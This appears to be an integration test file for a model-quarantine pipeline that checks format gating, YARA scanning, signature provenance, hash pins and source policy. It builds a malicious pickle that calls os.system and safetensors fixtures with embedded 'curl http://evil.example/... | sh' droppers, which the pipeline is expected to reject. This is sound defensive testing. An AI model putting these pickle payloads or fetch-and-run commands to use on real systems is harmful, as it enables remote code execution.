/**
 * The quarantine pipeline end to end, on the real path: the shipped audit, policy, registry
 * and quarantine controls under a real supervisor, the format gate and static scan in real
 * sandboxed jobs, SQLite job and model stores, the shipped policy deciding promotion.
 */
import assert, { deepEqual, equal, match, ok } from "node:assert/strict";
import { IntegrityHasher } from "../../runtime/kit/digest.ts";
import { auditQueryApi } from "../../workers/audit/api.ts";
import {
  type Job,
  quarantineApi,
  signedMessage,
  STAGE_NAMES,
} from "../../workers/quarantine/api.ts";
import { registryApi } from "../../workers/registry/api.ts";
import {
  benignSafetensors,
  type PipelineSystem,
  safetensorsFile,
  settle,
  startPipeline,
  upload,
} from "./_system.ts";

const enc = new TextEncoder();

function digestsOf(bytes: Uint8Array) {
  const hasher = new IntegrityHasher();
  hasher.update(bytes);
  return hasher.digest();
}

async function auditTypes(sys: PipelineSystem, type: string) {
  const page = await sys.supervisor.client(auditQueryApi).call("query", { type, limit: 50 });
  return page.entries;
}

/** A protocol-2 pickle whose load calls `os.system(cmd)` (GLOBAL, BINUNICODE, TUPLE1, REDUCE). */
function evilPickle(cmd = "curl http://evil.example/a.sh | sh"): Uint8Array {
  const arg = enc.encode(cmd);
  const len = new Uint8Array(4);
  new DataView(len.buffer).setUint32(0, arg.length, true);
  return Uint8Array.from([
    0x80,
    0x02,
    ...enc.encode("cos\nsystem\n"),
    0x58,
    ...len,
    ...arg,
    0x85,
    0x52,
    0x2e,
  ]);
}

/** A valid safetensors whose first tensor's bytes hold `payload`. */
function safetensorsWith(payload: Uint8Array, trailing = false): Uint8Array {
  const file = safetensorsFile({ "model.embed.weight": [1024] });
  const headerLength = Number(new DataView(file.buffer).getBigUint64(0, true));
  if (trailing) {
    const out = new Uint8Array(file.length + payload.length);
    out.set(file);
    out.set(payload, file.length);
    return out;
  }
  file.set(payload, 8 + headerLength + 64);
  return file;
}

Deno.test("a benign safetensors passes all seven stages and is promoted with its digests", async () => {
  const sys = await startPipeline();
  try {
    const bytes = benignSafetensors();
    const expected = digestsOf(bytes);
    const q = sys.supervisor.client(quarantineApi);
    const job = await settle(q, await upload(q, "tiny-llama.safetensors", bytes));

    equal(job.state, "promoted", JSON.stringify(job.error));
    equal(job.sha256, expected.sha256);
    equal(job.fsverity, expected.fsverity);
    equal(job.format, "safetensors");
    // The stage contract: every stage recorded in order with input, findings, verdict, timing.
    deepEqual(job.stages.map((s) => s.stage), [...STAGE_NAMES]);
    deepEqual(job.stages.map((s) => s.verdict), [
      "pass",
      "pass",
      "pass",
      "pass",
      "pass",
      "skipped",
      "skipped",
    ]);
    for (const stage of job.stages) {
      equal(stage.attempts, 1, stage.stage);
      ok(stage.timing.startedAt !== null && stage.timing.finishedAt !== null, stage.stage);
      ok((stage.timing.ms ?? -1) >= 0, stage.stage);
      equal(typeof stage.input, "object");
    }
    match(job.stages[5]?.note ?? "", /GGUF models only/);

    const model = await sys.supervisor.client(registryApi).call("get", {
      id: job.modelId as string,
    });
    equal(model.sha256, expected.sha256);
    equal(model.fsverity, expected.fsverity);
    equal(model.size, bytes.length);
    equal(model.name, "tiny-llama");
    equal(model.provenance.status, "none");
    equal(model.provenance.pinned, false);
    equal(model.scan.verdict, "clean");
    equal(model.smokeTest.status, "skipped");
    equal(model.decision.decision, "allow");
    equal(model.promotedBy, "quarantine");

    // The blob is content-addressed, read-only, byte-identical; nothing is left in quarantine.
    const blob = `${sys.home}/registry/models/${expected.sha256}.safetensors`;
    deepEqual(await Deno.readFile(blob), bytes);
    equal(((await Deno.stat(blob)).mode ?? 0) & 0o777, 0o444);
    deepEqual([...Deno.readDirSync(`${sys.home}/quarantine/processing`)], []);
    deepEqual([...Deno.readDirSync(`${sys.home}/promotion-staging`)], []);

    const promoted = await auditTypes(sys, "registry.promoted");
    equal(promoted.length, 1);
    equal(promoted[0]?.subject, model.id);
    equal(promoted[0]?.decision, "allow");
    equal(promoted[0]?.evidence.sha256, expected.sha256);
    const decisions = await auditTypes(sys, "policy.decision");
    ok(decisions.some((d) => d.subject === "model_promotion" && d.decision === "allow"));
  } finally {
    await sys.stop();
  }
});

/** Malicious and malformed artifacts, each stopped at the stage that must stop it. */
const REJECTIONS: {
  name: string;
  filename: string;
  bytes: () => Uint8Array;
  stage: string;
  code: string;
  finding: RegExp;
}[] = [
  {
    name: "a pickle calling os.system is refused by name before anything parses it",
    filename: "evil.pkl",
    bytes: () => evilPickle(),
    stage: "format_gate",
    code: "DENIED_FORMAT",
    finding: /Pickle-based format "\.pkl" is never admitted/,
  },
  {
    name: "a pickle named .safetensors is caught as a polyglot at offset 0",
    filename: "evil.safetensors",
    bytes: () => evilPickle(),
    stage: "format_gate",
    code: "PICKLE_POLYGLOT",
    finding: /pickle protocol 2 \(offset 0\)/,
  },
  {
    name: "a PyTorch zip named .gguf is refused as a container",
    filename: "model.gguf",
    bytes: () => Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...new Uint8Array(60)]),
    stage: "format_gate",
    code: "DENIED_FORMAT",
    finding: /zip archive/,
  },
  {
    name: "a file with a GGUF name but no GGUF magic is invalid",
    filename: "random.gguf",
    bytes: () => crypto.getRandomValues(new Uint8Array(4096)),
    stage: "format_gate",
    code: "INVALID_HEADER",
    finding: /GGUF magic/,
  },
  {
    name: "a shell dropper hidden in tensor bytes is a threat found by YARA",
    filename: "dropper.safetensors",
    bytes: () => safetensorsWith(enc.encode("x; curl http://evil.example/x.sh | sh; ")),
    stage: "static_scan",
    code: "SCAN_THREAT",
    finding: /shell_dropper|curl|wget/i,
  },
  {
    name: "a pickle calling os.system appended after the last tensor is a threat",
    filename: "appended.safetensors",
    bytes: () => safetensorsWith(evilPickle(), true),
    stage: "static_scan",
    code: "SCAN_THREAT",
    finding: /embedded_code_pickle/,
  },
  {
    name: "bytes that belong to no tensor make the file invalid, never clean",
    filename: "trailing.safetensors",
    bytes: () => safetensorsWith(new Uint8Array(40).fill(7), true),
    stage: "static_scan",
    code: "SCAN_INVALID",
    finding: /belong to no tensor/,
  },
];

Deno.test("malicious and malformed artifacts are rejected at the right stage with the finding shown", async (t) => {
  const sys = await startPipeline();
  try {
    const q = sys.supervisor.client(quarantineApi);
    for (const c of REJECTIONS) {
      await t.step(c.name, async () => {
        const job: Job = await settle(q, await upload(q, c.filename, c.bytes()));
        equal(job.state, "rejected");
        equal(job.stage, c.stage);
        equal(job.error?.code, c.code, job.error?.message);
        equal(job.modelId, null);
        const record = job.stages.find((s) => s.stage === c.stage);
        equal(record?.status, "failed");
        ok(
          record?.findings.some((f) => c.finding.test(`${f.rule} ${f.message}`)),
          JSON.stringify(record?.findings),
        );
        // Nothing after the failing stage ran (the first failure stops the run).
        const after = job.stages.slice(STAGE_NAMES.indexOf(c.stage as never) + 1);
        ok(after.every((s) => s.status === "pending" && s.attempts === 0));
        // The artifact is deleted.
        await Deno.stat(`${sys.home}/quarantine/processing/${job.id}`).then(
          () => assert.fail("artifact kept"),
          (error) => ok(error instanceof Deno.errors.NotFound),
        );
      });
    }
    const models = await sys.supervisor.client(registryApi).call("list", { includeRevoked: true });
    deepEqual(models.models, []);
    const rejected = await auditTypes(sys, "quarantine.rejected");
    deepEqual(rejected.map((e) => e.evidence.code).sort(), REJECTIONS.map((c) => c.code).sort());
  } finally {
    await sys.stop();
  }
});

Deno.test("a static-scan finding names the rule, severity and offset in the job record", async () => {
  const sys = await startPipeline();
  try {
    const q = sys.supervisor.client(quarantineApi);
    const job = await settle(
      q,
      await upload(
        q,
        "dropper.safetensors",
        safetensorsWith(enc.encode("curl http://e.example/x | sh")),
      ),
    );
    const findings = job.stages.find((s) => s.stage === "static_scan")?.findings ?? [];
    const yara = findings.find((f) => f.stage === "yara" && f.severity !== "info");
    ok(yara, JSON.stringify(findings));
    match(yara.rule, /shell_dropper/);
    ok(["high", "critical"].includes(yara.severity));
    equal(typeof yara.offset, "number");
    match(job.error?.message ?? "", /shell_dropper.*offset \d+/);
  } finally {
    await sys.stop();
  }
});

async function signingKey() {
  const pair = await crypto.subtle.generateKey({ name: "Ed25519" }, true, [
    "sign",
    "verify",
  ]) as CryptoKeyPair;
  const raw = new Uint8Array(await crypto.subtle.exportKey("raw", pair.publicKey));
  return { pair, publicKey: btoa(String.fromCharCode(...raw)) };
}

async function sign(key: CryptoKeyPair, bytes: Uint8Array, keyId: string) {
  const { sha256, size } = digestsOf(bytes);
  const signature = new Uint8Array(
    await crypto.subtle.sign({ name: "Ed25519" }, key.privateKey, signedMessage(sha256, size)),
  );
  return {
    version: 1 as const,
    algorithm: "ed25519" as const,
    keyId,
    signature: btoa(String.fromCharCode(...signature)),
  };
}

Deno.test("provenance verifies a trusted Ed25519 signature and fails a bad, untrusted or missing one", async () => {
  const trusted = await signingKey();
  const stranger = await signingKey();
  const sys = await startPipeline({
    sections: { quarantine: { trustedKeys: [{ id: "vendor", publicKey: trusted.publicKey }] } },
  });
  try {
    const q = sys.supervisor.client(quarantineApi);
    const good = safetensorsFile({ "w": [300] });
    const signed = await settle(
      q,
      await upload(q, "signed.safetensors", good, {
        signature: await sign(trusted.pair, good, "vendor"),
      }),
    );
    equal(signed.state, "promoted", JSON.stringify(signed.error));
    const model = await sys.supervisor.client(registryApi).call("get", {
      id: signed.modelId as string,
    });
    deepEqual(model.provenance, { status: "verified", signer: "vendor", pinned: false });
    equal(model.signature?.algorithm === "ed25519" ? model.signature.keyId : null, "vendor");

    const other = safetensorsFile({ "w": [301] });
    const cases = [
      {
        name: "forged.safetensors",
        signature: await sign(stranger.pair, other, "vendor"),
        code: "BAD_SIGNATURE",
      },
      {
        name: "unknown.safetensors",
        signature: await sign(stranger.pair, other, "stranger"),
        code: "UNTRUSTED_SIGNER",
      },
      // A valid signature over other content does not transfer.
      {
        name: "replayed.safetensors",
        signature: await sign(trusted.pair, good, "vendor"),
        code: "BAD_SIGNATURE",
      },
    ];
    for (const c of cases) {
      const job = await settle(q, await upload(q, c.name, other, { signature: c.signature }));
      equal(job.state, "rejected", c.name);
      equal(job.stage, "provenance", c.name);
      equal(job.error?.code, c.code, c.name);
    }
  } finally {
    await sys.stop();
  }
  const strict = await startPipeline({ sections: { quarantine: { requireSignature: true } } });
  try {
    const q = strict.supervisor.client(quarantineApi);
    const job = await settle(q, await upload(q, "unsigned.safetensors", benignSafetensors()));
    equal(job.error?.code, "UNSIGNED");
    equal(job.stage, "provenance");
  } finally {
    await strict.stop();
  }
});

Deno.test("the lock blocks content by hash whatever its name, and a pin must match", async () => {
  const blockedBytes = safetensorsFile({ "x": [77] });
  const pinnedBytes = safetensorsFile({ "y": [78] });
  const sys = await startPipeline({
    sections: {
      quarantine: {
        pins: [
          {
            name: "bad-model",
            format: "safetensors",
            filename: "original.safetensors",
            sha256: digestsOf(blockedBytes).sha256,
            sizeBytes: blockedBytes.length,
            blocked: true,
            blockedReason: "15/41 prompts flagged, including 4 critical",
          },
          {
            name: "good-model",
            format: "safetensors",
            filename: "good.safetensors",
            sha256: digestsOf(pinnedBytes).sha256,
            sizeBytes: pinnedBytes.length,
          },
        ],
      },
    },
  });
  try {
    const q = sys.supervisor.client(quarantineApi);
    const blocked = await settle(q, await upload(q, "renamed.safetensors", blockedBytes));
    equal(blocked.error?.code, "BLOCKED_HASH");
    match(blocked.error?.message ?? "", /15\/41 prompts flagged/);
    const wrong = await settle(
      q,
      await upload(q, "good.safetensors", safetensorsFile({ "z": [79] })),
    );
    equal(wrong.error?.code, "PIN_MISMATCH");
    const right = await settle(q, await upload(q, "good.safetensors", pinnedBytes));
    equal(right.state, "promoted", JSON.stringify(right.error));
    const model = await sys.supervisor.client(registryApi).call("get", {
      id: right.modelId as string,
    });
    equal(model.provenance.pinned, true);
  } finally {
    await sys.stop();
  }
});

Deno.test("the inbox claims a dropped file with its origin; a remote origin needs an allowed host and a pin", async () => {
  const sys = await startPipeline();
  try {
    const inbox = `${sys.home}/quarantine/incoming`;
    const q = sys.supervisor.client(quarantineApi);
    const cases = [
      {
        name: "hf.safetensors",
        source: "https://huggingface.co/org/repo/resolve/main/hf.safetensors",
        stage: "integrity_pin",
        code: "NOT_PINNED",
      },
      {
        name: "plain.safetensors",
        source: "http://huggingface.co/org/repo/plain.safetensors",
        stage: "source_policy",
        code: "INVALID_SOURCE",
      },
      {
        name: "other.safetensors",
        source: "https://evil.example/other.safetensors",
        stage: "source_policy",
        code: "SOURCE_NOT_ALLOWED",
      },
      {
        name: "creds.safetensors",
        source: "https://user:pw@huggingface.co/x.safetensors",
        stage: "source_policy",
        code: "INVALID_SOURCE",
      },
    ];
    for (const c of cases) {
      await Deno.writeTextFile(`${inbox}/.${c.name}.source`, `${c.source}\n`);
      await Deno.writeFile(`${inbox}/${c.name}`, safetensorsFile({ [c.name]: [10] }));
    }
    for (const c of cases) {
      let found: Job | undefined;
      const deadline = Date.now() + 20_000;
      while (found === undefined && Date.now() < deadline) {
        const { jobs } = await q.call("list", { limit: 50 });
        const summary = jobs.find((j) => j.filename === c.name);
        if (summary) found = await settle(q, summary.id);
        else await new Promise((r) => setTimeout(r, 100));
      }
      ok(found, `${c.name} was not claimed`);
      equal(found.source, c.source);
      equal(found.state, "rejected", c.name);
      equal(found.stage, c.stage, c.name);
      equal(found.error?.code, c.code, c.name);
    }
    // Claimed items and their sidecars are gone from the inbox.
    deepEqual(
      [...Deno.readDirSync(inbox)].map((e) => e.name).filter((n) => !n.startsWith(".upload")),
      [],
    );
  } finally {
    await sys.stop();
  }
});

Deno.test("progress and stage events of a job reach the supervisor's event stream", async () => {
  const sys = await startPipeline();
  try {
    const q = sys.supervisor.client(quarantineApi);
    const before = sys.supervisor.events.last;
    const id = await upload(q, "events.safetensors", benignSafetensors());
    await settle(q, id);
    const { events } = await sys.supervisor.events.since(before, { waitMs: 0, limit: 500 });
    const mine = events.filter((e) => e.source === "quarantine" && e.data.jobId === id);
    const progress = mine.find((e) => e.type === "quarantine.progress");
    ok(progress, JSON.stringify(mine.map((e) => e.type)));
    equal(progress.data.stage, "integrity_pin");
    ok(Number(progress.data.bytes) > 0);
    const finished = mine.filter((e) =>
      e.type === "quarantine.stage" && e.data.status === "finished"
    )
      .map((e) => e.data.stage);
    deepEqual(finished, [...STAGE_NAMES]);
    ok(mine.some((e) => e.type === "quarantine.job" && e.data.state === "promoted"));
    ok(events.some((e) => e.type === "job.finished" && e.data.job === "static_scan"));
  } finally {
    await sys.stop();
  }
});
